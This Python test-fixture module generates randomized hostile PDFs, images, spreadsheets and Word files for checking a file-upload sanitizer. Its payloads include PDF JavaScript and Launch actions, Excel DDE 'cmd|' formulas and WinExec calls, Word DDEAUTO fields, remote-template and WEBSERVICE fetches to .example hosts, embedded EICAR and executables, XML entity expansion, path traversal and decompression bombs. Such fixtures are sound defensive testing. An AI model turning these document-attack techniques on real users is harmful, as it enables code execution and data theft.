"""Files of every kind that dangerous people send, each in as many variants as are asked for: refused, or harmless in every copy."""

import random
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from PIL import Image, PngImagePlugin

from incentives_portal.sandbox.parsing.reasons import Content, Reason

from . import corpus, samples
from .corpus import EICAR, MARKER, pdf_of
from .variants import cell, letter, relation, workbook

Random = random.Random
_M = MARKER.decode()


@dataclass(frozen=True)
class Hostile:
    """A file with MARKER in what is dangerous: noted as ``content`` where it is accepted, or refused with ``reason``."""

    name: str
    data: bytes
    content: Content | None = None
    reason: Reason | None = None


def _escaped(draw: Random, name: str) -> bytes:
    """A name of PDF, one of whose letters may be written as an escape."""
    at = draw.randrange(len(name))
    return f"{name[:at]}#{ord(name[at]):02x}{name[at + 1 :]}".encode() if draw.random() < 0.5 else name.encode()


def _placed(draw: Random, action: bytes, *objects: bytes) -> bytes:
    """A PDF that does something when it is opened, a page is shown, a field is touched or an outline clicked; objects begin with 6."""
    where = draw.randrange(8)
    field = b"/FT /Tx /T (a) /Subtype /Widget /Rect [0 0 9 9] /Type /Annot"
    match where:
        case 0:
            return pdf_of(action, *objects, root=b"/OpenAction 5 0 R")
        case 1:
            return pdf_of(action, *objects, root=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>")
        case 2:
            return pdf_of(action, *objects, page=b"/AA << /O 5 0 R >>")
        case 3:
            return pdf_of(
                action, *objects, page=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A 5 0 R >>]"
            )
        case 4:
            form = b"/AcroForm << /Fields [<< %s /AA << /K 5 0 R >> >>] >>" % field
            return pdf_of(action, *objects, root=form)
        case 5:
            return pdf_of(action, *objects, page=b"/Annots [<< %s /PA 5 0 R /AA << /E %s >> >>]" % (field, action))
        case 6:
            return pdf_of(action, *objects, root=b"/Outlines << /First << /Title (a) /A 5 0 R >> >>")
        case _:
            return pdf_of(action, *objects, root=b"/AA << /WC 5 0 R >>")


def pdf_script(draw: Random) -> Hostile:
    name, script = _escaped(draw, "JavaScript"), b"app.alert\\('%s'\\)" % MARKER
    match draw.randrange(4):
        case 0:
            data = pdf_of(
                b"<< /S /%s /JS (%s) >>" % (name, script), root=b"/Names << /JavaScript << /Names [(a) 5 0 R] >> >>"
            )
        case 1:
            inner = {5: b"<< /S /%s /JS (%s) >>" % (name, script)}
            data = corpus.pdf_with_object_stream(inner, root=b"/OpenAction 5 0 R")
        case 2:
            data = _placed(draw, b"<< /S /%s /JS 6 0 R >>" % name, corpus.stream(script))
        case _:
            data = _placed(draw, b"<< /Type /Action /S /%s /#4a#53 (%s) >>" % (name, script))
    return Hostile("a.pdf", data, Content.SCRIPTS)


def pdf_action(draw: Random) -> Hostile:
    kind, entries = draw.choice(
        [
            ("Launch", b"/F (%s.exe)"),
            ("Launch", b"/Win << /F (cmd.exe) /P (%s) >>"),
            ("SubmitForm", b"/F << /FS /URL /F (http://%s.example/) >>"),
            ("ImportData", b"/F (%s.fdf)"),
            ("GoToR", b"/F (\\\\\\\\x.example\\\\%s) /D [0 /Fit]"),
            ("GoToE", b"/F (%s.pdf) /D [0 /Fit]"),
            ("URI", b"/URI (file:////x.example/%s)"),
            ("URI", b"/URI (javascript:%s)"),
        ]
    )
    return Hostile(
        "a.pdf", _placed(draw, b"<< /S /%s %s >>" % (_escaped(draw, kind), entries % MARKER)), Content.ACTIONS
    )


def pdf_film(draw: Random) -> Hostile:
    if draw.random() < 0.5:
        action = b"<< /S /Rendition /OP 0 /JS (%s) >>" % MARKER
        return Hostile("a.pdf", _placed(draw, action), Content.MEDIA)
    kind = draw.choice([b"RichMedia", b"Screen", b"Movie", b"Sound", b"3D"])
    annotation = (
        b"/Annots [<< /Type /Annot /Subtype /%s /Rect [0 0 9 9] /RichMediaContent 5 0 R /Movie 5 0 R /T (%s) >>]"
    )
    return Hostile("a.pdf", pdf_of(b"<< /Assets (%s) >>" % MARKER, page=annotation % (kind, MARKER)), Content.MEDIA)


def pdf_form_that_is_a_program(draw: Random) -> Hostile:
    template = corpus.stream(b"<template><script>%s</script></template>" % MARKER)
    xfa = draw.choice([b"5 0 R", b"[(template) 5 0 R]"])
    return Hostile(
        "a.pdf",
        pdf_of(template, root=b"/AcroForm << /Fields [] /%s %s >>" % (_escaped(draw, "XFA"), xfa)),
        Content.FORMS,
    )


def pdf_file_within(draw: Random) -> Hostile:
    content = draw.choice(
        [MARKER, EICAR + MARKER, samples.BILLION_LAUGHS + MARKER, b"<html><script>%s</script>" % MARKER]
    )
    name = draw.choice(["a.xml", "hours.pdf", "a.txt", "list.csv", "page.html"])
    if draw.random() < 0.5:
        return Hostile("a.pdf", corpus.pdf_with_file(name, content), Content.ATTACHMENTS)
    file = b"<< /Type /Filespec /F (%s) /EF << /F 6 0 R >> >>" % name.encode()
    pinned = b"/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 5 0 R >>]"
    return Hostile("a.pdf", pdf_of(file, corpus.stream(content), page=pinned), Content.ATTACHMENTS)


def pdf_program_or_archive_within(draw: Random) -> Hostile:
    name, content = draw.choice(
        [
            ("setup.exe", b"MZ"),
            ("eicar.com", EICAR),
            ("invoice.pdf", b"MZ\x90\0" + MARKER),
            ("hours.xml", b"\x7fELF" + MARKER),
            ("run.js", MARKER),
            ("a.txt", b"#!/bin/sh\n" + MARKER),
            ("all.zip", samples.archive({"a": MARKER})),
            ("hours.pdf", samples.archive({"a": MARKER})),
            ("a.rar", MARKER),
            ("a.dat", b"Rar!\x1a\x07" + MARKER),
            ("list.xlsm", MARKER),
        ]
    )
    return Hostile("a.pdf", corpus.pdf_with_file(name, content), reason=Reason.EMBEDDED)


def pdf_that_fetches(draw: Random) -> Hostile:
    address = b"<< /FS /URL /F (http://%s.example/a.png) >>" % MARKER
    kind = draw.choice(
        [b"/F %s /FFilter /FlateDecode", b"/F %s", b"/Ref << /F %s /Page 0 >>", b"/OPI << /2.0 << /F %s >> >>"]
    )
    subtype = b"/Form /BBox [0 0 9 9]" if b"Ref" in kind or b"OPI" in kind else b"/Image /Width 1 /Height 1"
    drawing = b"<< /Type /XObject /Subtype %s %s /Length 0 >>\nstream\n\nendstream" % (subtype, kind % address)
    return Hostile("a.pdf", pdf_of(drawing, page=b"/Resources << /XObject << /A 5 0 R >> >>"), Content.EXTERNAL)


def pdf_and_page(draw: Random) -> Hostile:
    page = b"<%s><script>%s</script>" % (draw.choice([b"html", b"!DOCTYPE html", b"ScRiPt", b"svg onload=x"]), MARKER)
    plain = samples.written_pdf()
    data = plain[:9] + b"%" + page + b"\n" + plain[9:] if draw.random() < 0.5 else plain + b"%" + page + b"\n"
    return Hostile("a.pdf", data, Content.MARKUP)


def picture_with_words(draw: Random) -> Hostile:
    said = b"<?php %s ?>" % MARKER
    size = (draw.randint(10, 80), draw.randint(10, 80))
    match draw.randrange(5):
        case 0:
            words = PngImagePlugin.PngInfo()
            words.add_text("Comment", said.decode())
            return Hostile("a.png", samples.picture(*size, kind="PNG", pnginfo=words))
        case 1:
            return Hostile("a.jpg", samples.picture(*size, comment=said))
        case 2:
            exif = Image.Exif()
            exif[0x010E] = said.decode()
            return Hostile("a.webp", samples.picture(*size, kind="WEBP", exif=exif))
        case 3:
            return Hostile("a.jpg", samples.picture(*size, icc_profile=said))
        case _:
            return Hostile("a.png", samples.picture(*size, kind="PNG") + b"<script>" + said)


def sheet_with_a_command(draw: Random) -> Hostile:
    command = draw.choice(
        [
            f"cmd|'/C {_M}'!A0",
            f"cmd&#124;'/C {_M}'!A0",
            f"<![CDATA[cmd|'/C {_M}'!A0]]>",
            f"cmd<!-- -->|'/C {_M}'!A0",
            f'CALL("kernel32","WinExec","{_M}")',
            f"1+MSEXCEL|'\\..\\{_M}'!A1",
        ]
    )
    match draw.randrange(3):
        case 0:
            data = workbook(cell("1", command))
        case 1:
            data = workbook(cell("1"), **{"xl/names.xml": f"<a><definedName>{command}</definedName></a>"})
        case _:
            link = f'<e><ddeLink ddeService="cmd" ddeTopic="{_M}"/></e>'
            data = workbook(cell("1"), **{"xl/externalLinks/externalLink1.xml": link})
    return Hostile("a.xlsx", data, Content.COMMANDS)


def sheet_that_fetches(draw: Random) -> Hostile:
    if draw.random() < 0.5:
        return Hostile("a.xlsx", workbook(cell("1", f'WEBSERVICE("http://{_M}.example")')), Content.EXTERNAL)
    rels = {
        "xl/externalLinks/_rels/externalLink1.xml.rels": relation("externalLinkPath", f"https://{_M}.example/a.xlsx")
    }
    return Hostile("a.xlsx", workbook(cell("1"), **rels), Content.EXTERNAL)


def letter_with_a_command(draw: Random) -> Hostile:
    word = draw.choice(["DDEAUTO", "DDE", "dde", "&#68;DE", "ddeauto"])
    instruction = f'{word} c:\\\\cmd.exe "/k {_M}"'
    pieces = [instruction[:2], instruction[2:5], instruction[5:]] if "&" not in instruction else [instruction]
    runs = "".join(f"<w:instrText>{piece}</w:instrText>" for piece in pieces)
    simple = f'<w:fldSimple w:instr="{instruction.replace(chr(34), "&quot;")}"/>'
    field = f'<w:fldChar w:fldCharType="begin"/>{runs}<w:fldChar w:fldCharType="end"/>'
    return Hostile("a.docx", letter(draw.choice([simple, field, runs])), Content.COMMANDS)


def letter_that_fetches(draw: Random) -> Hostile:
    kind = draw.choice(["attachedTemplate", "image", "oleObject", "frame", "subDocument"])
    target = draw.choice(
        [f"https://{_M}.example/t.dotm", f"\\\\{_M}.example\\t.dotm", f"%5C%5C{_M}.example/t", f"https&#58;//{_M}"]
    )
    return Hostile(
        "a.docx", letter("<w:t>a</w:t>", **{"word/_rels/settings.xml.rels": relation(kind, target)}), Content.EXTERNAL
    )


def office_with_files(draw: Random) -> Hostile:
    name = draw.choice(
        ["word/embeddings/oleObject1.bin", "word/embeddings/sheet.xlsx", "word/a.pdf", "word/embeddings/eicar.txt"]
    )
    content = samples.xlsx(**{"xl/a.xml": MARKER}) if name.endswith("xlsx") else EICAR + MARKER
    return Hostile("a.docx", letter("<w:t>a</w:t>", **{name: content}), Content.ATTACHMENTS)


def office_that_is_refused(draw: Random) -> Hostile:
    name, content, reason = draw.choice(
        [
            ("vbaProject.bin", MARKER, Reason.MACROS),
            ("macrosheets/sheet1.xml", b"<a/>", Reason.MACROS),
            ("embeddings/a.zip", samples.archive({"a": MARKER}), Reason.EMBEDDED),
            ("embeddings/a.bin", samples.archive({"a": MARKER}), Reason.EMBEDDED),
            ("embeddings/eicar.com", EICAR, Reason.EMBEDDED),
            ("media/a.exe", MARKER, Reason.EMBEDDED),
            ("a.xml", samples.BILLION_LAUGHS, Reason.ENTITIES),
            ("media/a.png", samples.EXTERNAL_ENTITY, Reason.ENTITIES),
            ("../../a.xml", b"<a/>", Reason.CONTENT),
            ("b\\a.xml", b"<a/>", Reason.CONTENT),
        ]
    )
    if draw.random() < 0.5:
        return Hostile("a.xlsx", workbook(cell("1"), **{f"xl/{name}": content}), reason=reason)
    return Hostile("a.docx", letter("<w:t>a</w:t>", **{f"word/{name}": content}), reason=reason)


def type_lie(draw: Random) -> Hostile:
    contents = [
        b"<html><script>%s</script></html>" % MARKER,
        b"MZ\x90\0" + bytes(300),
        b"#!/bin/sh\n" + MARKER,
        b"\x7fELF\2\1\1" + bytes(300),
        b"Dear reviewer",
        b"GIF89a" + bytes(90),
        draw.randbytes(500),
        b"<html>\n" + samples.pdf(),
    ]
    return Hostile(
        f"a.{draw.choice(['pdf', 'jpg', 'png', 'webp', 'heic', 'docx'])}", draw.choice(contents), reason=Reason.CONTENT
    )


def archive_too(draw: Random) -> Hostile:
    name, data = draw.choice(
        [("a.pdf", samples.pdf()), ("a.jpg", samples.picture()), ("a.png", samples.picture(kind="PNG"))]
    )
    return Hostile(name, data + samples.archive({f"{draw.randint(1, 99)}.html": MARKER}), reason=Reason.MIXED)


def bomb(draw: Random) -> Hostile:
    size = draw.randint(70, 90) * 1024 * 1024
    packed = zlib.compress(bytes(size), 1)
    match draw.randrange(3):
        case 0:
            stream = b"<< /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (len(packed), packed)
            return Hostile("a.pdf", pdf_of(stream), reason=Reason.TOO_COMPLEX)
        case 1:
            twice = zlib.compress(packed)
            stream = b"<< /Filter [/FlateDecode /Fl] /Length %d >>\nstream\n%s\nendstream" % (len(twice), twice)
            return Hostile("a.pdf", pdf_of(stream), reason=Reason.TOO_COMPLEX)
        case _:
            return Hostile("a.png", samples.pixel_flood(draw.randint(10_001, 60_000)), reason=Reason.TOO_COMPLEX)


HOSTILE: list[Callable[[Random], Hostile]] = [
    pdf_script,
    pdf_action,
    pdf_film,
    pdf_form_that_is_a_program,
    pdf_file_within,
    pdf_program_or_archive_within,
    pdf_that_fetches,
    pdf_and_page,
    picture_with_words,
    sheet_with_a_command,
    sheet_that_fetches,
    letter_with_a_command,
    letter_that_fetches,
    office_with_files,
    office_that_is_refused,
    type_lie,
    archive_too,
    bomb,
]
